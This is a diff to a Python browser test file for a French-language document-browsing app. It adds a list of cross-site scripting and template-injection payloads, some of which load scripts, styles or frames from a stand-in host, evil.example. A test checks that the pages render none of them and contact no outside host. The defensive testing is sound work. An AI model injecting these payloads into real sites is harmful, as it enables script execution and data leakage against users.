@@ -21,11 +21,24 @@ from sourcier.app.pages.browsing import PER_PAGE, Asked, browse, choices, form_o
 from sourcier.app.pages.reading import contents, groups
 from sourcier.app.pages.views import document_page
 from sourcier.app.ui.guard import is_served
-from sourcier.core.settings import Settings
+from sourcier.core.settings import ServeSettings, Settings
 from sourcier.core.types import Block, BlockKind, Document, Metadata
 from sourcier.index.search import Searcher
 
 NEEDS_BROWSER = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"NO BROWSER: {CHROMIUM} is absent (see test_browser)")
+ATTACKS = [
+    "<img src=http://evil.example/b.png onerror=alert(1)>",
+    "<script>alert(2)</script><script src=http://evil.example/c.js></script>",
+    "[x](javascript:alert(3)) <http://evil.example/e> http://evil.example/f",
+    "</span></p></article><iframe src=http://evil.example/g></iframe><svg onload=alert(4)>",
+    "{{ 7*7 }}{% raw %} ${alert(5)} <%= 1 %>",
+    "&lt;img src=x onerror=alert(6)&gt; &#60;b&#62; &amp;amp;",
+    '" onmouseover="alert(7)" style="background:url(http://evil.example/k)" x="',
+    "' autofocus onfocus='alert(8)' x='",
+    "<style>@import 'http://evil.example/l.css';</style><base href=http://evil.example/><meta http-equiv=refresh content=0>",
+    "</title></textarea></noscript></option></select><script>alert(9)</script>",
+    "\U0001f4dc e\u0301 \u202e\u2066 \ufeff \u00ad",
+]
 HOSTILE = (
     "</span><script>alert(1)</script> &amp; <img src=x onerror=alert(2)> \U0001f4dc {{ 7*7 }} [a](javascript:alert(3))"
 )
@@ -353,6 +366,34 @@ def test_without_scripts_everything_but_the_highlight_works(browser: Browser, si
     expect(page.locator("noscript p")).to_be_visible()
     assert page.evaluate("document.documentElement.scrollWidth") <= 320
     context.close()
+
+
+@NEEDS_BROWSER
+def test_hostile_documents_run_nothing_and_call_no_one(page: Page, tmp_path: Path) -> None:
+    held = []
+    for number, attack in enumerate(ATTACKS):
+        text = f"Début {number}. {attack} Fin."
+        one = document(attack, f"Titre {attack}", text, publisher=attack, date=attack)
+        blocks = (Block(BlockKind.HEADING, 0, 8, 1), Block(BlockKind.PARAGRAPH, 9, len(text), notes=(attack,)))
+        url = "javascript:alert(12)" if number % 2 else attack
+        kinds = replace(one.metadata, kind=attack, language=attack, url=url, authors=(attack,), audience=attack)
+        held.append(replace(one, blocks=blocks, metadata=kinds))
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    for site in served(object(), FewDocuments(tuple(held)), Settings(home=tmp_path, serve=ServeSettings(port=0))):
+        page.goto(f"{site.address}/transparence")
+        page.goto(f"{site.address}/documents")
+        page.get_by_label("Chercher dans les textes").fill(ATTACKS[0])
+        page.get_by_role("button", name="Chercher").click()
+        expect(page.locator("#found")).to_contain_text("passages")
+        for one in held:
+            page.goto(f"{site.address}/documents/{one.document_id}#c3-{len(one.text) - 2}")
+            expect(page.locator("#quoted")).to_be_visible()
+            assert "".join(page.locator("mark").all_text_contents()) == one.text[3:8] + one.text[9:-2]
+            assert (
+                page.locator("article script, article img, article iframe, article a[href], article style").count() == 0
+            )
+        assert {url.split("/")[2] for url in asked} == {site.address.split("/")[2]}
 
 
 @NEEDS_BROWSER
